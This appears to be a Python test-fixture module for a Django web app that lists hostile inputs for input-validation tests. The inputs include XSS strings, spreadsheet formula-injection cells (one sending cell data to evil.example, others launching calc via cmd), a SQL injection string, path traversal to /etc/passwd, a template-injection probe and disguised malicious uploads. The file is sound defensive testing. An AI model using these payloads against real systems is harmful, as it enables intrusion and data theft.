"""The hostile inputs, by kind of field. Every value here is something a real user, a pasted
spreadsheet or an attacker can send; the app must answer each with a clear message or store it
harmlessly, never with a server error.

``RAW_MARKERS`` are the parts of the HTML/JS payloads that must never come back unescaped.
"""

import datetime as dt

from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone

XSS = '<script>alert("xss-palu")</script>'
XSS_ATTR = '"><img src=x onerror=alert("xss-palu")>'
XSS_SVG = "<svg/onload=alert('xss-palu')>"
RAW_MARKERS = ('<script>alert("xss-palu")', "<img src=x onerror", "<svg/onload")

LONG = "A" * 10_000
LONG_MULTIBYTE = "Ж" * 10_000
EMOJI = "Kue 🍜🧵👩‍👩‍👧‍👦 ✨"
RTL = "مجموعة الحرف \u202egnp.exe"
ZALGO = "Z\u0337\u0322\u031ba\u0338l\u0335g\u0337o"

# A spreadsheet runs these when the cell is opened (CSV/formula injection).
FORMULAS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)

# Text sent into every text field of a form at once (escaping, storage of odd characters, a
# spreadsheet's formulas).
TEXT = (
    LONG_MULTIBYTE,
    EMOJI,
    RTL,
    ZALGO,
    XSS,
    XSS_SVG,
    "javascript:alert(1)",
    "{{ request.user.password }}{% debug %}",
    *FORMULAS[:4],
    "baris1\r\nbaris2",
    "' OR '1'='1' --",
    "../../../etc/passwd",
    "\u200b\u200b\u200b",
)

# Text sent to each text field on its own: its length limit, NUL bytes, its own escaping.
TEXT_PER_FIELD = (LONG, "nul\x00byte", XSS_ATTR)

NUMBERS = (
    "-1",
    "0",
    "-999999999999",
    "1e309",
    "99999999999999999999999999",
    "32768",
    "1.5",
    "NaN",
    "Infinity",
    "abc",
    "١٢٣",
    "=1+1",
    LONG,
)


def _soon() -> str:
    return (timezone.localdate() + dt.timedelta(days=2)).isoformat()


DATES = (
    "2023-02-29",
    "2023-13-01",
    "0000-00-00",
    "0001-01-01",
    "1899-12-31",
    "9999-12-31",
    "3000-01-01",
    _soon(),
    "31/31/2020",
    "99999-01-01",
    "kemarin",
    XSS,
    LONG,
)

CHOICES = ("bukan-pilihan", "-1", "999999999", XSS)

# A value of the wrong *shape*: several values for one field.
WRONG_SHAPES = (["satu", "dua"],)


# --- uploads --------------------------------------------------------------------------------

PDF = b"%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64
JPEG = b"\xff\xd8\xff\xe0" + b"\x00" * 64
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 64
HTML = b"<html><body><script>alert('xss-palu')</script></body></html>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload=\"alert('xss-palu')\"/>"
OVERSIZED = 5 * 1024 * 1024 + 1


def _upload(name, content, content_type):
    return lambda: SimpleUploadedFile(name, content, content_type=content_type)


# name -> a builder of the upload (a fresh file object for every request). ``accepted`` says
# which of them a field that takes PDF/JPEG/PNG may keep; every other one must be refused.
UPLOADS = {
    "exe named .pdf": _upload("scan.pdf", EXE, "application/pdf"),
    "exe named .png": _upload("foto.png", EXE, "image/png"),
    "html named .pdf": _upload("scan.pdf", HTML, "application/pdf"),
    "html named .png": _upload("foto.png", HTML, "image/png"),
    "svg with script": _upload("foto.svg", SVG, "image/svg+xml"),
    "svg named .png": _upload("foto.png", SVG, "image/png"),
    "pdf named .png": _upload("foto.png", PDF, "image/png"),
    "png named .pdf": _upload("scan.pdf", PNG, "application/pdf"),
    "pdf with .exe": _upload("scan.pdf.exe", PDF, "application/octet-stream"),
    "empty file": _upload("scan.pdf", b"", "application/pdf"),
    "oversized pdf": _upload("scan.pdf", PDF + b"0" * OVERSIZED, "application/pdf"),
    "oversized png": _upload("foto.png", PNG + b"0" * OVERSIZED, "image/png"),
    "text instead of a file": lambda: "bukan berkas",
    # Valid content under hostile names: may be kept, but never under that name.
    "path traversal name": _upload("../../../../etc/passwd.png", PNG, "image/png"),
    "script in the name": _upload('<script>alert("xss-palu")</script>.png', PNG, "image/png"),
    "very long name": _upload("a" * 500 + ".png", PNG, "image/png"),
    "pdf with a lying content type": _upload("scan.pdf", PDF, "text/html"),
}
HARMLESS_UPLOADS = frozenset(
    {"path traversal name", "script in the name", "very long name", "pdf with a lying content type"}
)
